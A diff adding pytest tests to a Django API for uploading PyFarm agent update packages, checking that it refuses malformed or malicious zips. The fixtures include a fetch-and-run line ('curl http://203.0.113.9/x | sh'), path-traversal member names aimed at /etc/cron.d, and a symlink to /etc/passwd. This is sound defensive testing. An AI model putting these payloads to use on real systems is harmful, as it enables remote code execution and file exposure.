@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import io
 import json
+import stat
+import warnings
 import zipfile
 from pathlib import Path
 from typing import Any
@@ -16,10 +18,19 @@ pytestmark = pytest.mark.django_db
 ENDPOINT = "/api/v1/agents/updates/"
 
 
-def _zip(text: str = "print('hello')\n") -> bytes:
+AGENT_CODE = ("pyfarm/agent/__init__.py", "pyfarm/agent/entrypoints/main.py")
+
+
+def _zip(
+    text: str = "print('hello')\n",
+    names: tuple[str, ...] = AGENT_CODE,
+    compression: int = zipfile.ZIP_DEFLATED,
+) -> bytes:
+    """An update package: the agent's code (or the given members)."""
     buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        archive.writestr("pyfarm/agent/__init__.py", text)
+    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
+        for name in names:
+            archive.writestr(name, text)
     return buffer.getvalue()
 
 
@@ -119,6 +130,138 @@ def test_upload_refuses_packages_over_max_upload_size(
     assert response.status_code == 413
     assert str(len(PACKAGE) - 1) in _error(response)
     assert not updates_dir.exists()
+
+
+# An end-of-central-directory record of an empty archive.
+EMPTY_END_RECORD = b"PK\x05\x06" + bytes(18)
+SCRIPT = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"
+
+
+def _refused(client: Any, updates_dir: Path, package: bytes) -> str:
+    """Upload ``package``: 400 with a JSON error, and nothing stored."""
+    response = _upload(client, "1.2.3", package)
+    assert response.status_code == 400
+    assert not (updates_dir / "pyfarm-agent-1.2.3.zip").exists()
+    return _error(response)
+
+
+def test_upload_refuses_a_script_with_a_zip_end_record_appended(
+    admin_api_client, updates_dir
+) -> None:
+    package = SCRIPT + EMPTY_END_RECORD
+    assert zipfile.is_zipfile(io.BytesIO(package))
+    assert "zip" in _refused(admin_api_client, updates_dir, package)
+
+
+def test_upload_refuses_a_script_with_a_zip_archive_appended(
+    admin_api_client, updates_dir
+) -> None:
+    package = SCRIPT + PACKAGE
+    assert zipfile.ZipFile(io.BytesIO(package)).testzip() is None
+    assert "zip" in _refused(admin_api_client, updates_dir, package)
+
+
+def test_upload_refuses_a_zip_archive_prefixed_by_another(
+    admin_api_client, updates_dir
+) -> None:
+    package = _zip(names=("README",)) + PACKAGE
+    assert "before" in _refused(admin_api_client, updates_dir, package)
+
+
+def test_upload_refuses_data_after_the_archive(admin_api_client, updates_dir) -> None:
+    package = PACKAGE + SCRIPT
+    assert "after" in _refused(admin_api_client, updates_dir, package)
+
+
+def test_upload_refuses_an_empty_archive(admin_api_client, updates_dir) -> None:
+    package = EMPTY_END_RECORD
+    assert "zip" in _refused(admin_api_client, updates_dir, package)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "/etc/cron.d/pyfarm",
+        "../../../etc/cron.d/pyfarm",
+        "pyfarm/../../x.py",
+        "C:/Windows/x.dll",
+        "pyfarm\\..\\..\\x.py",
+        "pyfarm/a\x01.py",
+    ],
+)
+def test_upload_refuses_members_that_leave_the_directory(
+    admin_api_client, updates_dir, name
+) -> None:
+    package = _zip(names=(*AGENT_CODE, name))
+    assert "safely" in _refused(admin_api_client, updates_dir, package)
+
+
+def test_upload_refuses_a_damaged_archive(admin_api_client, updates_dir) -> None:
+    package = bytearray(_zip("x" * 1000, compression=zipfile.ZIP_STORED))
+    offset = package.index(b"x" * 100)
+    package[offset] = ord("y")
+    assert "CRC" in _refused(admin_api_client, updates_dir, bytes(package))
+
+
+def test_upload_refuses_an_archive_without_the_agents_code(
+    admin_api_client, updates_dir
+) -> None:
+    package = _zip(names=("pyfarm/agent/__init__.py", "README.txt"))
+    assert "pyfarm-agent code" in _refused(admin_api_client, updates_dir, package)
+
+
+def test_upload_refuses_compressions_the_agent_cannot_extract(
+    admin_api_client, updates_dir
+) -> None:
+    package = _zip(compression=zipfile.ZIP_BZIP2)
+    assert "stored or deflated" in _refused(admin_api_client, updates_dir, package)
+
+
+def test_upload_refuses_encrypted_members(admin_api_client, updates_dir) -> None:
+    # zipfile cannot encrypt: set the "encrypted" flag of every header.
+    package = bytearray(PACKAGE)
+    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        start = 0
+        while (start := package.find(signature, start)) != -1:
+            package[start + flags_at] |= 0x1
+            start += 1
+    assert "encrypted" in _refused(admin_api_client, updates_dir, bytes(package))
+
+
+def test_upload_refuses_symbolic_links(admin_api_client, updates_dir) -> None:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for name in AGENT_CODE:
+            archive.writestr(name, "")
+        link = zipfile.ZipInfo("pyfarm/agent/config.py")
+        link.external_attr = (stat.S_IFLNK | 0o777) << 16
+        archive.writestr(link, "/etc/passwd")
+    assert "link" in _refused(admin_api_client, updates_dir, buffer.getvalue())
+
+
+def test_upload_refuses_a_member_listed_twice(admin_api_client, updates_dir) -> None:
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", UserWarning)
+        package = _zip(names=(*AGENT_CODE, AGENT_CODE[1]))
+    assert "twice" in _refused(admin_api_client, updates_dir, package)
+
+
+def test_upload_refuses_more_content_than_max_upload_size(
+    admin_api_client, updates_dir, farm_config
+) -> None:
+    package = _zip("\0" * 100_000)
+    farm_config(max_upload_size=50_000)
+    assert len(package) < 50_000
+    assert "50000" in _refused(admin_api_client, updates_dir, package)
+
+
+def test_upload_accepts_the_package_contents_at_the_top(
+    admin_api_client, updates_dir
+) -> None:
+    package = _zip(
+        names=("__init__.py", "entrypoints/__init__.py", "entrypoints/main.py")
+    )
+    assert _upload(admin_api_client, "1.2.3", package).status_code == 201
 
 
 @pytest.mark.parametrize(
